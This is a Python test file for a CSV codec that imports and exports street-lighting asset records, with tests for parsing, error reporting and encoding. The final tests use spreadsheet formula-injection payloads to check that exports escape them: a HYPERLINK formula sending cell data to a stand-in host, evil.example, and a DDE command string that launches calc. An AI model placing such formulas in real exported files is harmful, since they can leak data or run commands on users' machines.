from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from datetime import date

import pytest

from signalight.codecs.inventory_csv import decode_csv, encode_csv, iter_decode_csv
from signalight.codecs.inventory_fields import COLUMNS, Decoded, RowError, parse_mapping
from signalight.domain.assets import AssetKind, AssetStatus, LuminaireType, StreetClass
from tests.codecs.inventory_samples import make_cabinet, make_intersection, make_streetlight

HEADER = ",".join(COLUMNS)
STREETLIGHT = (
    "streetlight,P-0001,Dam 1,52.3702157,4.8951679,in_service,Dam,collector,C-01,centre,"
    "2018-05-04,led,54.5,2022-01-09,,,,node-0001,1.4.2"
)
CABINET = "cabinet,C-01,Dam cabinet,52.37,4.89,in_service,,,,,,,,,,,,meter-01,"
INTERSECTION = (
    "intersection,X-12,George St / Market St,-33.8688197,151.2092955,in_service,,arterial,"
    "C-01,,,,,,ASC3-0012,Econolite,2;4;6;8,mon-12,"
)


def csv_bytes(*lines: str, newline: str = "\r\n") -> bytes:
    return newline.join(lines).encode() + newline.encode()


def reasons(decoded: Decoded) -> list[str]:
    return [str(error) for error in decoded.errors]


def test_every_column() -> None:
    decoded = decode_csv(csv_bytes(HEADER, STREETLIGHT, CABINET, INTERSECTION))
    assert decoded.ok, reasons(decoded)
    assert decoded.records == [
        (2, make_streetlight()),
        (3, make_cabinet()),
        (4, make_intersection()),
    ]


def test_minimal_columns_in_any_order_and_case() -> None:
    decoded = decode_csv(csv_bytes(" LON ,Code,KIND,Lat", "4.5,P-1,Streetlight,52"))
    assert decoded.ok, reasons(decoded)
    [(line, record)] = decoded.records
    assert line == 2
    assert (record.kind, record.code, record.lat, record.lon) == (
        AssetKind.STREETLIGHT,
        "P-1",
        52,
        4.5,
    )
    assert record.status is AssetStatus.IN_SERVICE


def test_semicolons_and_decimal_commas() -> None:
    data = csv_bytes(
        "kind;code;name;lat;lon;rated_watts;luminaire;phases",
        "streetlight;P-1;Rue de la Paix, 3;48,8693;2,3310;54,5;Metal Halide;",
        'intersection;X-1;;48.87;2.33;;;"2;6"',
    )
    decoded = decode_csv(data)
    assert decoded.ok, reasons(decoded)
    first, second = (record for _, record in decoded.records)
    assert (first.name, first.lat, first.lon, first.rated_watts) == (
        "Rue de la Paix, 3",
        48.8693,
        2.331,
        54.5,
    )
    assert first.luminaire is LuminaireType.METAL_HALIDE
    assert second.phases == (2, 6)


def test_commas_are_not_decimal_points_in_comma_files() -> None:
    decoded = decode_csv(csv_bytes("kind,code,lat,lon", 'streetlight,P-1,"52,1",4'))
    assert reasons(decoded) == ["line 2: lat: '52,1' is not a number (write decimals with '.')"]


def test_byte_order_mark() -> None:
    decoded = decode_csv(b"\xef\xbb\xbf" + csv_bytes("kind,code,lat,lon", "cabinet,C-1,1,2"))
    assert decoded.ok, reasons(decoded)
    assert decoded.records[0][1].code == "C-1"


def test_unix_newlines_and_no_final_newline() -> None:
    decoded = decode_csv(b"kind,code,lat,lon\ncabinet,C-1,1,2\ncabinet,C-2,1,2")
    assert [line for line, _ in decoded.records] == [2, 3]


def test_mapping_renames_and_drops() -> None:
    data = csv_bytes("Type,Pole No,Y,X,Notes", "streetlight,P-7,52.1,4.2,leaning")
    mapping = parse_mapping(["type=kind", "pole no=code", "y=lat", "x=lon", "notes=-"])
    decoded = decode_csv(data, mapping)
    assert decoded.ok, reasons(decoded)
    record = decoded.records[0][1]
    assert (record.code, record.lat, record.lon) == ("P-7", 52.1, 4.2)


def test_mapping_keys_are_matched_case_insensitively() -> None:
    decoded = decode_csv(csv_bytes("kind,POLE,lat,lon", "cabinet,C-1,1,2"), {"Pole": "code"})
    assert decoded.ok, reasons(decoded)


def test_unknown_columns_are_a_file_error() -> None:
    decoded = decode_csv(csv_bytes("kind,code,lat,lon,Notes,colour", "cabinet,C-1,1,2,x,red"))
    assert decoded.records == []
    [error] = decoded.errors
    assert error.where == "file"
    assert error.line == 0
    assert "unknown columns: 'Notes', 'colour'" in error.reason
    assert "--map NAME=-" in error.reason


def test_missing_required_columns() -> None:
    decoded = decode_csv(csv_bytes("kind,code,name", "cabinet,C-1,x"))
    assert decoded.records == []
    [reason] = reasons(decoded)
    assert reason == (
        "file: missing required columns: lat, lon; if the file names them differently,"
        " rename them with --map NAME=COLUMN"
    )


def test_duplicate_columns() -> None:
    decoded = decode_csv(csv_bytes("kind,code,lat,lon,Code", "cabinet,C-1,1,2,C-1"))
    assert reasons(decoded) == ["file: duplicate column: 'code' appears more than once"]
    renamed = decode_csv(
        csv_bytes("kind,code,lat,lon,pole", "cabinet,C-1,1,2,C-1"), {"pole": "code"}
    )
    assert reasons(renamed) == ["file: duplicate column: 'code' comes from both 'code' and 'pole'"]


def test_empty_file_and_header_only() -> None:
    assert reasons(decode_csv(b"")) == [
        "file: the file is empty; its first line must name the columns, e.g. kind,code,lat,lon"
    ]
    assert reasons(decode_csv(b"\r\n\r\n")) == reasons(decode_csv(b""))
    assert decode_csv(csv_bytes("kind,code,lat,lon")) == Decoded([], [])


BAD_VALUES = [
    ("kind", "lamp", "kind: 'lamp' is not one of streetlight, cabinet, intersection"),
    ("code", "", "code: missing"),
    ("lat", "52.x", "lat: '52.x' is not a number"),
    ("lon", "NaN", "lon: 'NaN' is not a finite number"),
    ("status", "gone", "status: 'gone' is not one of planned, in_service, out_of_service, removed"),
    ("street_class", "alley", "street_class: 'alley' is not one of motorway,"),
    ("installed_on", "4.5.2018", "installed_on: '4.5.2018' is not a date (YYYY-MM-DD)"),
    ("luminaire", "lamp", "luminaire: 'lamp' is not one of led, hps, metal_halide, fluorescent"),
    ("rated_watts", "abc", "rated_watts: 'abc' is not a number"),
    ("rated_watts", "5000", "rated_watts must be above 0 and at most 2000"),
    ("lamp_changed_on", "2010-01-01", "lamp_changed_on is before installed_on"),
    ("phases", "2;4", "controller_id, controller_vendor and phases apply to intersections only"),
    ("device", "node 1", "device id cannot contain"),
]


@pytest.mark.parametrize(("column", "value", "reason"), BAD_VALUES)
def test_bad_value_names_column_and_line(column: str, value: str, reason: str) -> None:
    cells = dict(zip(COLUMNS, STREETLIGHT.split(","), strict=True))
    cells[column] = value
    # Lines 2-4 hold one row whose name spans three physical lines; lines 5-7 are blank (the
    # last as a spreadsheet writes it), line 8 is the cabinet, so the bad row is line 9.
    data = csv_bytes(
        HEADER,
        STREETLIGHT.replace("Dam 1", '"Dam 1\r\nby the\r\npalace"'),
        "",
        "",
        ",,,,,,,,,,,,,,,,,,",
        CABINET,
        ",".join(cells.values()),
    )
    decoded = decode_csv(data)
    assert [line for line, _ in decoded.records] == [2, 8]
    assert decoded.records[0][1].name == "Dam 1\r\nby the\r\npalace"
    assert len(decoded.errors) == 1
    error = decoded.errors[0]
    assert (error.line, error.where) == (9, "line")
    assert error.reason.startswith(reason)


def test_many_bad_rows_are_all_reported() -> None:
    rows = [f"streetlight,P-{n},{'x' if n % 2 else 52},4" for n in range(1, 501)]
    decoded = decode_csv(csv_bytes("kind,code,lat,lon", *rows))
    assert len(decoded.records) == 250
    assert len(decoded.errors) == 250
    assert decoded.errors[0] == RowError(2, "lat: 'x' is not a number")
    assert decoded.errors[-1] == RowError(500, "lat: 'x' is not a number")


def test_every_problem_of_a_row_is_reported() -> None:
    decoded = decode_csv(csv_bytes("kind,code,lat,lon,rated_watts", "lamp,,x,4,abc"))
    assert reasons(decoded) == [
        "line 2: kind: 'lamp' is not one of streetlight, cabinet, intersection",
        "line 2: lat: 'x' is not a number",
        "line 2: rated_watts: 'abc' is not a number",
        "line 2: code: missing",
    ]


def test_non_utf8_bytes_name_the_line() -> None:
    data = csv_bytes(
        "kind,code,name,lat,lon", "cabinet,C-1,Main,1,2"
    ) + "cabinet,C-2,Caf\xe9,1,2\r\n".encode("latin-1")
    decoded = decode_csv(data)
    assert decoded.records == []
    assert reasons(decoded) == [
        "file: line 3: byte 0xE9 is not UTF-8; save it from the spreadsheet as 'CSV UTF-8'"
    ]


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (b"\xff\xfek\x00i\x00", "the file is UTF-16 text"),
        (b"PK\x03\x04\x14\x00", "this is a spreadsheet (.xlsx) or zip file"),
    ],
)
def test_files_that_are_not_csv(data: bytes, reason: str) -> None:
    [error] = decode_csv(data).errors
    assert error.where == "file"
    assert error.reason.startswith(reason)


def test_extra_cells_are_a_row_error() -> None:
    data = csv_bytes("kind,code,lat,lon", "cabinet,C-1,1,2,surprise", "cabinet,C-2,1,2,,")
    decoded = decode_csv(data)
    assert reasons(decoded) == ["line 2: has 5 cells but the header has 4 columns"]
    # Trailing empty cells, as spreadsheets write them, are no error.
    assert [record.code for _, record in decoded.records] == ["C-2"]


def test_short_rows_are_padded() -> None:
    decoded = decode_csv(csv_bytes("kind,code,lat,lon,name,street", "cabinet,C-1,1,2"))
    assert decoded.ok, reasons(decoded)
    assert decoded.records[0][1].name == ""


def test_unnamed_columns_must_be_empty() -> None:
    data = csv_bytes("kind,code,lat,lon,", "cabinet,C-1,1,2,", "cabinet,C-2,1,2,oops")
    decoded = decode_csv(data)
    assert [record.code for _, record in decoded.records] == ["C-1"]
    assert reasons(decoded) == ["line 3: column 5 has no name in the header but holds 'oops'"]


def test_unclosed_quote_is_a_file_error_at_its_line() -> None:
    data = csv_bytes(
        "kind,code,name,lat,lon", "cabinet,C-1,x,1,2", 'cabinet,C-2,"Main,1,2', "cabinet,C-3,y,1,2"
    )
    decoded = decode_csv(data)
    assert [record.code for _, record in decoded.records] == ["C-1"]
    [error] = decoded.errors
    assert error.where == "file"
    assert error.reason.startswith("line 3: the CSV is malformed")


def test_encode_header_and_lines() -> None:
    lines = encode_csv([make_streetlight(), make_cabinet(), make_intersection()])
    assert isinstance(lines, Iterator)
    assert list(lines) == [f"{line}\r\n" for line in (HEADER, STREETLIGHT, CABINET, INTERSECTION)]


def test_encode_quotes_what_needs_quoting() -> None:
    record = make_cabinet(name='Main, "North"\nside', street="Dam")
    [_, line] = encode_csv([record])
    assert line.startswith('cabinet,C-01,"Main, ""North""\nside",52.37,4.89,')
    assert decode_csv(("".join(encode_csv([record]))).encode()).records == [(2, record)]


def test_encode_is_lazy() -> None:
    def records() -> Iterator[object]:
        yield make_cabinet()
        raise AssertionError("read too far")

    lines = encode_csv(records())  # type: ignore[arg-type]
    assert next(lines).startswith("kind,code,")
    assert next(lines).startswith("cabinet,C-01,")


def test_encode_no_records() -> None:
    assert list(encode_csv([])) == [HEADER + "\r\n"]


def test_street_class_values() -> None:
    decoded = decode_csv(
        csv_bytes(
            "kind,code,lat,lon,street_class,installed_on", "cabinet,C-1,1,2,Motorway,2020-02-29"
        )
    )
    record = decoded.records[0][1]
    assert (record.street_class, record.installed_on) == (StreetClass.MOTORWAY, date(2020, 2, 29))


def test_pieces_add_up_to_the_whole_file() -> None:
    rows = [f"streetlight,SL-{i},5.4,100.4" for i in range(23)]
    rows[9] = "streetlight,SL-9,5.4,abc"
    data = ("kind,code,lat,lon\n" + "\n".join(rows) + "\n").encode()
    pieces = list(iter_decode_csv(data, chunk_rows=5))
    assert len(pieces) == 5
    assert [len(p.records) for p in pieces] == [5, 5, 5, 5, 2]
    whole = decode_csv(data)
    assert [r for p in pieces for r in p.records] == whole.records
    assert [e for p in pieces for e in p.errors] == whole.errors
    assert whole.errors[0].line == 11


def cells_of(line: str) -> dict[str, str]:
    [row] = csv.reader(io.StringIO(line, newline=""))
    return dict(zip(COLUMNS, row, strict=True))


FORMULA = 'HYPERLINK("http://evil.example/?leak="&A1,"Details")'


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_encode_escapes_each_formula_start(start: str) -> None:
    record = make_streetlight(name=start + FORMULA)
    [_, line] = encode_csv([record])
    assert cells_of(line)["name"] == "'" + start + FORMULA
    assert decode_csv(f"{HEADER}\r\n{line}".encode()).records == [(2, record)]


def test_encode_escapes_every_text_column_and_no_number() -> None:
    record = make_intersection(
        code="=X-12",
        lon=-70.6692655,
        name="=cmd|' /C calc'!A0",
        street="+SUM(1+1)",
        cabinet="@SUM(1)",
        group="-2+3",
        controller_id="'=A1",
        controller_vendor="''@x",
        device="=mon",
        device_firmware="-1-rc",
    )
    [_, line] = encode_csv([record])
    cells = cells_of(line)
    assert cells == {
        **cells,
        "code": "'=X-12",
        "name": "'=cmd|' /C calc'!A0",
        "street": "'+SUM(1+1)",
        "cabinet": "'@SUM(1)",
        "group": "'-2+3",
        "controller_id": "''=A1",
        "controller_vendor": "'''@x",
        "device": "'=mon",
        "device_firmware": "'-1-rc",
        "lat": "-33.8688197",
        "lon": "-70.6692655",
        "phases": "2;4;6;8",
    }
    [(_, decoded)] = decode_csv(f"{HEADER}\r\n{line}".encode()).records
    assert decoded == record
    assert (decoded.lat, decoded.lon) == (-33.8688197, -70.6692655)


def test_decode_removes_one_escaping_quote_and_no_other() -> None:
    data = csv_bytes(
        "kind,code,lat,lon,name,street,group,controller_id",
        "intersection,'=X-1,-33.8,-70.6,'=SUM(1),''@x,'t Hooft,O'Brien",
        "intersection,X-2,-33.8,-70.6,'\t=1+1,\"'\r=1+1\",',-3",
    )
    decoded = decode_csv(data)
    assert decoded.ok, reasons(decoded)
    first, second = (record for _, record in decoded.records)
    assert (first.code, first.name, first.street, first.group, first.controller_id) == (
        "=X-1",
        "=SUM(1)",
        "'@x",
        "'t Hooft",
        "O'Brien",
    )
    assert (second.name, second.street, second.group, second.controller_id) == (
        "\t=1+1",
        "\r=1+1",
        "'",
        "-3",
    )
    assert (first.lat, first.lon) == (-33.8, -70.6)
